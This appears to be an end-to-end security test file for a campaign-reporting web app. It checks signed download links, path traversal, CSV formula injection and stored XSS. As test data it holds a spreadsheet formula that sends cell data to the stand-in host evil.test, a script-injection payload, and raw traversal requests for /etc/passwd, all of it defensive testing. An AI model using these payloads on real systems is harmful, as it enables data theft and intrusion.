import { connect } from 'node:net';
import { beforeAll, describe, expect, inject, it } from 'vitest';
import { addDays, utcDay } from '@castgraph/kernel/days';
import { openBrowser } from '../set-up/open-browser.ts';
import { signUp, type Session } from '../set-up/session.ts';
import { until } from '../set-up/until.ts';

const { publicUrl } = inject('product');
const today = utcDay(Date.now());
/** What a spreadsheet would run, and what a browser would. */
const FORMULA = `=HYPERLINK("http://evil.test/?x="&A1,"click")`;
const SCRIPT = '<img src=x onerror="globalThis.stolen=1"><script>globalThis.stolen=1</script>';

let session: Session;
let fileUrl: string;
let campaignId: string;

async function made(type: string, field: string, input: Record<string, unknown>): Promise<string> {
  const { data, errors } = await session.send(
    `mutation M($input: ${type}Input!) { made: ${type[0]!.toLowerCase()}${type.slice(1)}(input: $input) { __typename ... on ${type}Payload { it: ${field} { id } } ... on UserError { message } } }`,
    { input },
  );
  if (!data?.made.it) throw new Error(JSON.stringify({ data, errors }));
  return data.made.it.id as string;
}

beforeAll(async () => {
  session = await signUp(publicUrl);
  const sponsorId = await made('CreateSponsor', 'sponsor', { name: FORMULA });
  const cost = { amountMinor: 100_000, currency: 'EUR' };
  campaignId = await made('CreateCampaign', 'campaign', { sponsorId, name: SCRIPT, cost, flightFrom: today, flightTo: addDays(today, 7) });
  await session.send(
    'mutation G($input: ReportRequest!) { generateReport(input: $input) { ... on GenerateReportPayload { report { reportId } } } }',
    { input: { campaignId, format: 'CSV', dateRange: { from: addDays(today, -1), to: today } } },
  );
  fileUrl = await until(async () => {
    const { data: read } = await session.send('query { reports { edges { node { fileUrl } } } }');
    return (read?.reports.edges[0]?.node.fileUrl as string | null) ?? undefined;
  });
});

/** Sends a path as it is: clients that resolve `..` would hide what they ask. */
async function askRaw(path: string): Promise<string> {
  const { hostname, port } = new URL(publicUrl);
  const socket = connect({ host: hostname, port: Number(port) });
  socket.end(`GET ${path} HTTP/1.1\r\nHost: ${hostname}\r\nConnection: close\r\n\r\n`);
  let text = '';
  for await (const chunk of socket) text += String(chunk);
  return text;
}

describe('a download address', () => {
  it('opens as it was given', async () => expect((await fetch(new URL(fileUrl, publicUrl))).status).toBe(200));

  it('is refused when any part of it was changed', async () => {
    const { pathname, searchParams } = new URL(fileUrl, publicUrl);
    const [expires, key, signature] = ['expires', 'key', 'signature'].map((name) => searchParams.get(name)!) as [string, string, string];
    const query = (e: string, k: string, s: string) => `?expires=${e}&key=${k}&signature=${s}`;
    const flipped = signature.startsWith('A') ? `B${signature.slice(1)}` : `A${signature.slice(1)}`;
    for (const changed of [
      pathname,
      pathname + query(String(Number(expires) + 3600), key, signature),
      pathname + query(expires, '2', signature),
      pathname + query(expires, key, flipped),
      pathname + query(expires, key, signature.slice(0, -1)),
      pathname + query(expires, key, signature) + '&expires=99999999999',
      pathname.replace(/[^/]+$/, 'other.csv') + query(expires, key, signature),
      pathname.replace(/reports\/[^/]+/, 'reports/01900000-0000-7000-8000-000000000000') + query(expires, key, signature),
    ]) {
      const { status } = await fetch(publicUrl + changed);
      expect([403, 404], changed).toContain(status);
    }
  });

  it('never leads out of its folder', async () => {
    for (const path of [
      '/reports/../../../../etc/passwd',
      '/reports/..%2f..%2f..%2f..%2fetc%2fpasswd',
      '/reports/%2e%2e/%2e%2e/etc/passwd',
      '/reports/x/..%5c..%5cetc%5cpasswd',
      '/assets/../../../../../etc/passwd',
      '/assets/..%2f..%2f..%2f..%2f..%2fetc%2fpasswd',
      '/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd',
      '//etc/passwd',
      '/assets/%00/etc/passwd',
    ])
      expect(await askRaw(path), path).not.toContain('root:');
  });
});

describe('what somebody called something', () => {
  it('is no formula in a spreadsheet', async () => {
    const csv = await (await fetch(new URL(fileUrl, publicUrl))).text();
    expect(csv).toContain('HYPERLINK');
    for (const cell of csv.split(/[,\r\n]/)) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+@\t]/);
  });

  it('is text on the pages, not a script', async () => {
    const browser = await openBrowser();
    try {
      const context = await browser.newContext();
      const [name, value] = session.cookie.split('=') as [string, string];
      await context.addCookies([{ name, value, url: publicUrl }]);
      const page = await context.newPage();
      for (const path of ['/campaigns', `/campaigns/${campaignId}`, '/reports']) {
        await page.goto(publicUrl + path);
        if (path !== '/reports') await page.getByText('onerror').first().waitFor();
        expect(await page.evaluate(() => (globalThis as { stolen?: number }).stolen), path).toBeUndefined();
      }
      // A second line, should one ever get through: no inline script runs on our pages.
      await page.evaluate(`document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(SCRIPT)})`);
      await page.waitForTimeout(300);
      expect(await page.evaluate(() => (globalThis as { stolen?: number }).stolen)).toBeUndefined();
    } finally {
      await browser.close();
    }
  });
});
